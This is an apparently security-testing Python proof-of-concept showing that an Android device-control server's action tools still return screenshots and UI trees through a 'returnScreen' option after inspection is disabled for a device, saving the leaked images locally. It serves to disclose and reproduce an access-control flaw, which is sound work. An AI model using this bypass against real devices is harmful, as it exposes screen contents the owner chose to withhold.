"""BYPASS 1: Inspect OFF on device A, yet every action tool's `returnScreen` ("screenshot",
"tree", "both") sends back A's screenshot (PNG/JPEG ImageContent) and UI tree.
Self-contained: .venv/bin/python bypass1_returnscreen.py"""
import base64
from freshlab import *
async def main():
    lab = Lab()
    try:
        A = lab.A
        async with Client(lab.inst.relay_params(), mode="legacy") as c:
            idA, idB = await identities(c, lab.A, lab.B)
            lab.write_tree({idA: {"inspect": False}})
            r = await until_refused(c, "android_take_screenshot", {"serial": A})
            print("Inspect off on A confirmed:", r["error"][:100])
            r = await c.call_tool("android_get_ui_tree", {"serial": A}); print("get_ui_tree refused:", r.is_error)
            # exactly the project's own test sequence
            await c.call_tool("android_launch_app", {"serial": A, "packageName": NOTES})
            for name, args in [("android_tap", {"serial": A, "x": 10, "y": 10}),
                               ("android_press_key", {"serial": A, "key": "BACK"}),
                               ("android_launch_app", {"serial": A, "packageName": NOTES}),
                               ("android_tap_element", {"serial": A, "element": "Groceries"}),
                               ("android_scroll", {"serial": A})]:
                for rs in ["screenshot", "tree", "both"]:
                    res = await c.call_tool(name, {**args, "returnScreen": rs})
                    imgs = [x for x in res.content if type(x).__name__ == "ImageContent"]
                    sc = res.structured_content or {}
                    leaked = bool(imgs) or "\n" in str(sc.get("screen", ""))
                    print(f"{'LEAK' if leaked else 'ok  '} {name} returnScreen={rs}: is_error={res.is_error} images={len(imgs)} screen={short(str(sc.get('screen') or sc.get('error')), 120)!r}")
                    if imgs:
                        open(lab.tmp / f"A-{name}-{rs}.jpg", "wb").write(base64.b64decode(imgs[0].data))
            print("images of A saved under", lab.tmp)
    finally:
        lab.close()
anyio.run(main)
